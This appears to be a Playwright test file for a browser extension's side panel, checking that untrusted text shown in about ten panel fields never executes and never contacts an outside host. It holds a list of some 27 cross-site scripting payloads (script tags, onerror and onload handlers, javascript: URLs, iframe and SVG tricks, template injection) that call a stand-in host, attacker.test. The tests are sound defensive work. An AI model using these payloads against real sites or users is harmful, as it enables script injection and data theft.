"""Scripts in what others wrote: messages, lines, notes, tags, names, errors. None of them runs."""

import shutil
from pathlib import Path

import pytest
from playwright.sync_api import Playwright, Request, expect

from tests.extension.alone import HERE, VIEW, Panel, browser, line, panel
from tests.extension.chromium import OURS, Chromium
from tests.extension.sites import site
from tests.extension.test_door import HELPDESK
from tests.process import SidecarProcess
from tests.sample import prompts

__all__ = ["browser", "panel"]
pytestmark = pytest.mark.browser
AWAY = "https://attacker.test/"
RUN = f"window.ran=1;fetch('{AWAY}')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="{AWAY}a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="{AWAY}b.png">',
    f'"><img src=x onerror="{RUN}">',
    f'\'><img src=x onerror="{RUN}">',
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x>',
    f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="{AWAY}c.swf">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<form action="{AWAY}"><input autofocus onfocus="{RUN}"></form>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<link rel="stylesheet" href="{AWAY}d.css">',
    f"<style>@import '{AWAY}e.css'; * {{ background: url({AWAY}f.png) }}</style>",
    f'<base href="{AWAY}"><a href="g">x</a>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    f"a paper, javascript:{RUN}//https://example.com/",
    f'a paper, https://example.com/" onclick="{RUN}',
)
PLACES = ("text", "title", "why", "strategy", "source", "kind", "slot", "name", "place", "error")

APART = ("nudge", "introduction", "hint", "care")


def view_of(payload: str) -> dict[str, object]:
    """Put a payload wherever a panel shows what others wrote, ten places each."""
    fields = {"title": payload, "why": payload, "strategy": payload, "source": payload}
    slot = {"name": payload, "span": [0, 3]}
    return {
        "suggestions": VIEW["suggestions"]
        | {
            "items": [
                line("a", payload, slots=[slot], **fields),
                line("n", "\n".join([payload] * 4), **fields) | {"kind": "note"},
                line("k", payload, **fields) | {"kind": payload},
                *(line(kind, payload, **fields) | {"kind": kind} for kind in APART),
            ]
        },
        "findings": [
            {"rule": payload, "span": [0, 1], "text": payload, "advice": payload}
            | {"replacements": [payload]}
        ],
        "conversation": VIEW["conversation"]
        | {
            "id": payload,
            "customer": {"name": payload, "locale": payload, "country": payload},
        },
        "chats": [HERE, HERE | {"id": payload, "name": payload, "why": payload, "here": False}],
        "connection": {"status": "offline", "problem": payload, "address": payload},
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_runs_or_calls_home_wherever_the_panel_shows_it(
    panel: Panel, payload: str
) -> None:
    """The panel stands here without the extension's policy: its own code must be enough."""
    asked: list[str] = []
    panel.page.on("request", lambda request: asked.append(request.url))
    panel.show(**view_of(payload))
    panel.settle()
    for summary in panel.page.locator("summary").all():
        summary.evaluate("(one) => { one.parentElement.open = true; }")
    people = [{"name": payload, "languages": [payload], "topics": [payload], "shared": [payload]}]
    people[0] |= {"photo": payload}
    panel.page.evaluate("(people) => tell({ type: 'colleagues', people })", people)
    panel.page.evaluate("(one) => tell({ type: 'thanks', lines: [one] })", payload)
    panel.page.evaluate("document.querySelector('#handover').showPopover()")
    expect(panel.page.locator("#lines")).to_contain_text(payload[:8])
    expect(panel.page.locator("#findings .advice")).to_have_text(payload)
    assert len(PLACES) * len(PAYLOADS) >= 200
    assert panel.page.evaluate("window.ran") is None
    links = "(all) => all.map((one) => new URL(one.href).protocol)"
    assert set(panel.page.locator("a").evaluate_all(links)) <= {"https:", "http:"}
    assert panel.page.locator("script:not([src='panel.js']), iframe, object, embed").count() == 0
    assert [url for url in asked if url.startswith(AWAY)] == []


def test_payloads_of_a_chat_and_a_library_pass_through_the_whole_product_as_text(
    playwright: Playwright, tmp_path: Path
) -> None:
    folder = tmp_path / "prompts"
    shutil.copytree(prompts(), folder)
    for file in folder.rglob("*.toml"):
        text = file.read_text()
        file.write_text(text.replace('title = "A parcel is late"', f"title = '''{PAYLOADS[4]}'''"))
    extra = {"SIDECAR_PROMPTS": str(folder)}
    asked: list[Request] = []

    def hear(request: Request) -> None:  # playwright takes no method of a list
        asked.append(request)

    with (
        SidecarProcess(tmp_path / "home", encoder="hashing", extra=extra) as server,
        site(HELPDESK.replace("</p>", f" {'&lt;'.join(PAYLOADS[4].split('<'))}</p>")) as address,
        Chromium(playwright, tmp_path / "profile") as chromium,
    ):
        chromium.pair(server)
        chromium.context.on("request", hear)
        desk = chromium.context.new_page()
        desk.goto(f"{address}/demo")
        shown = chromium.context.new_page()
        shown.goto(f"{OURS}/panel/panel.html?tab={chromium.tab(desk)}")
        expect(shown.locator("#lines")).to_contain_text("<img src=x")
        shown.locator("body").press("1")
        for page in (desk, shown):
            assert page.evaluate("window.ran") is None
    assert [request.url for request in asked if request.url.startswith(AWAY)] == []
